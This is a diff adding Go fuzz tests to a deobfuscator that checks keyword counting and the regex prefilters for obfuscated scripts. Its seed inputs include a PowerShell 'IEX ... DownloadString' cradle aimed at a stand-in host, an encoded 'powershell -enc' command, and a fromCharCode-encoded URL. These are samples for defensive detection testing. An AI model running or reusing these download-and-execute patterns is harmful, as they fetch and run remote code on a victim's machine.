@@ -1,6 +1,7 @@
 package deobfuscator
 
 import (
+	"bytes"
 	"os"
 	"path/filepath"
 	"strings"
@@ -148,6 +149,36 @@ func FuzzPrefilter(f *testing.F) {
 		}
 		if c := candidatesAt0(b); len(c) > 0 {
 			t.Fatalf("rejected %q, but the full search finds %v", b, c[0].provenance)
+		}
+	})
+}
+
+// FuzzKeywordHits: the one-pass count equals counting each keyword in bytes.ToLower's text.
+func FuzzKeywordHits(f *testing.F) {
+	f.Add([]byte("IEX (New-Object Net.WebClient).DownloadString('http://x')"))
+	f.Add([]byte("soc\u212aet powershell"))
+	f.Add([]byte("Http HTTP hTtP"))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		if got, want := keywordHits(b), keywordHitsLower(bytes.ToLower(b[:min(len(b), 64<<10)])); got != want {
+			t.Fatalf("keywordHits = %d, want %d", got, want)
+		}
+	})
+}
+
+// FuzzCandidatePrefilters: where the regular expressions match, the prefilters that decide
+// whether to run them say they may.
+func FuzzCandidatePrefilters(f *testing.F) {
+	f.Add([]byte("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"))
+	f.Add([]byte("x /E aGVsbG8gd29ybGQgaGVsbG8="))
+	f.Add([]byte("String.fromCharCode(104, 116,116 ,112,58,47,47,120,46)"))
+	f.Add([]byte("1,2,3,4,5,6,7,8"))
+	re := compileRegexes()
+	f.Fuzz(func(t *testing.T, b []byte) {
+		if re.psEnc.Match(b) && !mayHaveEncodedCommand(b) {
+			t.Fatal("psEnc matches where mayHaveEncodedCommand says it cannot")
+		}
+		if re.intList.Match(b) && !mayHaveIntList(b) {
+			t.Fatal("intList matches where mayHaveIntList says it cannot")
 		}
 	})
 }
